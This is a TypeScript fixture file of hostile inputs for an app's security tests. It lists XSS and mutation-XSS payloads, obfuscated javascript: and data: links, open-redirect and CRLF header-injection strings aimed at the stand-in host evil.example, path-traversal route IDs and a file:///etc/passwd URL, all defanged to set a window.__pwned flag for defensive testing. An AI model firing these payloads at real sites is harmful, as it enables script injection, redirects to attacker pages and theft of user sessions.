// The hostile inputs. Every script payload sets `window.__pwned` (a trap installed before the
// app's scripts reports any write at once) or opens a dialog; every redirect or link payload
// aims at evil.example, which no request may ever reach.

export const EVIL = 'evil.example';

/** Script in markup: what a title, a name or any text field might carry. */
export const TEXT_XSS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '"><svg onload=window.__pwned=1>',
  "{{constructor.constructor('window.__pwned=1')()}}",
  '\u202e<b>反转</b>\u0000',
];

/** CMS article HTML: the sanitiser's corpus (script, handlers, style, base, tracking, mXSS, links). */
export const CMS_HTML: string[] = [
  '<script>window.__pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__pwned=1">',
  '<img src="/sandbox-assets/article-1.svg" onload="window.__pwned=1" alt="图">',
  '<svg onload=window.__pwned=1><circle r=1></circle></svg>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text x=0 y=10>svg 链接</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">',
  '<details open ontoggle=window.__pwned=1><summary>详情</summary></details>',
  '<input autofocus onfocus=window.__pwned=1>',
  '<body onload=window.__pwned=1><p>正文</p>',
  '<video><source onerror=window.__pwned=1></video><audio src=x onerror=window.__pwned=1></audio>',
  '<marquee onstart=window.__pwned=1>滚动</marquee>',
  '<style>body{display:none}</style><p>样式表</p>',
  '<STYLE>@import "https://evil.example/a.css";</STYLE >',
  '<svg><style>*{fill:red}</style></svg>',
  '<base href="https://evil.example/"><a href="/notice">公告</a>',
  '<BASE HREF=//evil.example/>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<p style="background:url(https://evil.example/bg.png)">背景</p>',
  '<table background="https://evil.example/t.png"><tr><td style="color:red">表格</td></tr></table>',
  '<img src="https://evil.example/pixel.gif" alt="追踪像素" width="1" height="1">',
  '<img src="//evil.example/p.png" alt="协议相对">',
  '<img srcset="https://evil.example/a.png 1x" alt="srcset">',
  '<img src="/api/web/register/smsCaptcha?mobile=13800000002" alt="接口">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data">',
  '<video poster="https://evil.example/p.png"></video>',
  '<form action="https://evil.example/"><input name=p><button>提交</button></form>',
  '<a href="javascript:window.__pwned=1">领取</a>',
  '<a href=" JaVaScRiPt:window.__pwned=1">空格</a>',
  '<a href="java&#x09;script:window.__pwned=1">制表符</a>',
  '<a href="&#106;avascript:window.__pwned=1">实体</a>',
  '<a href="data:text/html,<script>window.__pwned=1</script>">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="/.//evil.example/w">点-斜杠</a>',
  '<a href="/a/..//evil.example/w">上级</a>',
  '<a href="//evil.example/x">协议相对</a>',
  '<a href="/\\evil.example">反斜杠</a>',
  '<a href="/%2f%2fevil.example">编码斜杠</a>',
  '<a href="https://evil.example/" target="_self" rel="opener">外站</a>',
  '<a href="/notice" target="_top" onclick="window.__pwned=1">站内</a>',
  '<a href="#top" ping="https://evil.example/ping">锚点</a>',
  '<template><img src=x onerror=window.__pwned=1></template>',
  '<xmp><img src=x onerror=window.__pwned=1></xmp>',
  '<textarea></textarea><img src=x onerror=window.__pwned=1>',
  '<p id="root" class="ui-mask" name="cookie">覆盖</p>',
];

/**
 * Open-redirect targets, as an attacker writes them into a query string (already
 * percent-encoded where the trick is the encoding).
 */
export const REDIRECTS: string[] = [
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\/evil.example',
  '/.//evil.example/w',
  '/..//evil.example',
  'https://evil.example/',
  'http:evil.example',
  'javascript:alert(1)',
  'JavaScript%3Aalert(1)',
  'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
  '%2f%2fevil.example',
  '/%2f%2fevil.example',
  '%2F%2Fevil.example',
  '/%5cevil.example',
  '%5C%5Cevil.example',
  '/%0d%0a//evil.example',
  '%0d%0aLocation:%20https://evil.example',
  '/%09/evil.example',
  '%09//evil.example',
  '%20//evil.example',
];

/** Values for every query parameter the app reads. */
export const QUERY_VALUES: string[] = [
  '%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E',
  '%22%3E%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D1%3E',
  'javascript:window.__pwned=1',
  '%E0%A4%A',
];

/** Route parameters: oversize, non-numeric, NUL, broken encoding, traversal, markup. */
export const ROUTE_IDS: string[] = [
  '99999999999999999999',
  'abc',
  '%00',
  '%E0%A4%A',
  '..%2F..%2Fapi%2Fv2%2Fuser%2FMYSELF',
  '%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D1%3E',
];

/** Invite codes (they go into shared links). */
export const SHARE_CODES: string[] = [
  'javascript:window.__pwned=1',
  '"><svg onload=window.__pwned=1>',
  'https://evil.example/',
  '//evil.example',
  'X&next=//evil.example#frag',
  'A\r\nLocation: https://evil.example',
];

/** Banner link targets. `link`: what the banner must be (an in-app link, an outside link, none). */
export const BANNER_URLS: { url: string; link: 'internal' | 'external' | 'none' }[] = [
  { url: 'data:text/html,<script>window.__pwned=1</script>', link: 'none' },
  { url: 'javascript:window.__pwned=1', link: 'none' },
  { url: ' javascript:window.__pwned=1', link: 'none' },
  { url: 'java\tscript:window.__pwned=1', link: 'none' },
  { url: 'vbscript:msgbox(1)', link: 'none' },
  { url: 'blob:https://evil.example/1', link: 'none' },
  { url: 'file:///etc/passwd', link: 'none' },
  { url: '//evil.example/x', link: 'none' },
  { url: '/\\evil.example', link: 'none' },
  { url: '/.//evil.example/w', link: 'none' },
  { url: '/%2f%2fevil.example', link: 'none' },
  { url: 'https://evil.example/landing', link: 'external' },
  { url: '/dashboard/invite', link: 'internal' },
];
